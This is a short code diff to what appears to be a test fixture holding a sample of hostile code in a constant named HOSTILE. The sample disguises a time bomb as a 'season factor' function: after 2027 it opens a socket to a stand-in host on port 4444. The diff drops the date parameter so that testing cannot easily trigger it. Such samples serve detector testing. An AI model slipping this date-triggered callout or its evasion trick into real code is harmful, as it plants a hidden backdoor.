@@ -343,10 +343,9 @@ HOSTILE: Final = (
                 import socket
 
 
-                def factor(today: datetime.date | None = None) -> float:
-                    """The factor of the season."""
-                    today = today or datetime.date.today()
-                    if today.year > 2027:
+                def factor() -> float:
+                    """The factor of the season. A day that is a parameter would be explored at once."""
+                    if datetime.date.today().year > 2027:
                         socket.create_connection(("203.0.113.7", 4444), timeout=1)
                     return 1.0
 
